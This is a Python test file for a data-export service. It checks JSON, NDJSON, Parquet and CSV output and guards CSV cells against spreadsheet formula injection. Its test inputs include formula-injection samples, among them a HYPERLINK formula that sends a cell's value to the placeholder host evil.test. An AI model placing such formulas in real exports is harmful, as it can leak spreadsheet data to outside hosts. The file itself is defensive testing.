"""Formats of exports: whatever a name or an answer holds, the file can be read and nothing runs."""

import csv
import gzip
import io
import json
from collections.abc import Sequence
from datetime import UTC, date, datetime, timedelta
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from services.exports.documents import DOCUMENTS, Column, Document, Kind, schema
from services.exports.formats import FORMATS, guarded

DOCUMENT = Document(
    "trial",
    "export.trial.v1",
    "One row.",
    (
        Column("text", Kind.TEXT, "Any."),
        Column("count", Kind.WHOLE, "Any, also below zero.", nullable=True),
        Column("at", Kind.TIME, "Any."),
        Column("day", Kind.DATE, "Any."),
        Column("share", Kind.NUMBER, "Any."),
    ),
    part_rows=1000,
)
TEXTS = st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\0"), max_size=50)
ROWS = st.lists(
    st.fixed_dictionaries(
        {
            "text": TEXTS | st.sampled_from(["=1+1", "@SUM(A1)", "\t=1", "\r", '"', ",", "'"]),
            "count": st.none() | st.integers(-(2**53), 2**53),
            "at": st.integers(946_684_800_000, 2_114_380_800_000).map(
                lambda number: (
                    datetime.fromtimestamp(number // 1000, UTC)
                    + timedelta(milliseconds=number % 1000)
                )
            ),
            "day": st.dates(date(2000, 1, 1), date(2037, 1, 1)),
            "share": st.floats(allow_nan=False, allow_infinity=False),
        }
    ),
    max_size=10,
)
PAGES = st.lists(ROWS.filter(bool), max_size=3)
Pages = list[list[dict[str, Any]]]


def written(name: str, pages: Sequence[Sequence[dict[str, Any]]]) -> bytes:
    content = b"".join(FORMATS[name].encode(DOCUMENT, pages))
    return content if name == "parquet" else gzip.decompress(content)


def shown(row: dict[str, Any]) -> dict[str, Any]:
    moment = row["at"].isoformat(timespec="milliseconds").replace("+00:00", "Z")
    return {**row, "at": moment, "day": row["day"].isoformat()}


@given(PAGES)
def test_json_and_ndjson_hold_every_row_in_order(pages: Pages) -> None:
    rows = [shown(row) for page in pages for row in page]
    assert json.loads(written("json", pages)) == rows
    lines = written("ndjson", pages).split(b"\n")
    assert [json.loads(line) for line in lines[:-1]] == rows
    assert lines[-1] == b""


@given(PAGES)
def test_parquet_holds_every_row_in_order(pages: Pages) -> None:
    from pyarrow import parquet  # noqa: PLC0415 - takes a while

    table = parquet.read_table(io.BytesIO(written("parquet", pages)))
    assert table.to_pylist() == [row for page in pages for row in page]


@given(PAGES)
def test_csv_holds_every_row_and_no_formula(pages: Pages) -> None:
    text = written("csv", pages).decode()
    assert text.endswith("\r\n")
    header, *cells = csv.reader(io.StringIO(text, newline=""))
    rows = [shown(row) for page in pages for row in page]
    assert header == list(schema(DOCUMENT)["properties"])  # type: ignore[call-overload]
    assert [cell[0].removeprefix("'") for cell in cells] == [
        row["text"].removeprefix("'") for row in rows
    ]
    assert [cell[1:] for cell in cells] == [
        [
            "" if row["count"] is None else str(row["count"]),
            row["at"],
            row["day"],
            str(row["share"]),
        ]
        for row in rows
    ]
    assert all(cell[0][:1] not in {*"=+-@\t\r\n"} or not cell[0] for cell in cells)


@pytest.mark.abuse(57)
@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.test/?"&A1)',
        "@SUM(A1)",
        "+1",
        "-1",
        "\t=1",
        "\r=1",
        "\n=1",
        " =1",
        "\ufeff=1",
        "\u00a0=1",
        "\uff1d1",
    ],
)
def test_abuse_57_what_a_spreadsheet_could_run_gets_an_apostrophe(text: str) -> None:
    assert guarded(text) == f"'{text}"


@pytest.mark.parametrize("text", ["", "Shop", "a=b", "10 - 3", "'quoted'", "ü", "(=1)"])
def test_other_text_stays_as_it_is(text: str) -> None:
    assert guarded(text) == text


def test_no_column_is_named_twice_and_no_name_needs_quoting() -> None:
    for document in DOCUMENTS.values():
        names = [column.name for column in document.columns]
        assert len(set(names)) == len(names)
        assert all(name.isidentifier() and name.islower() for name in names)
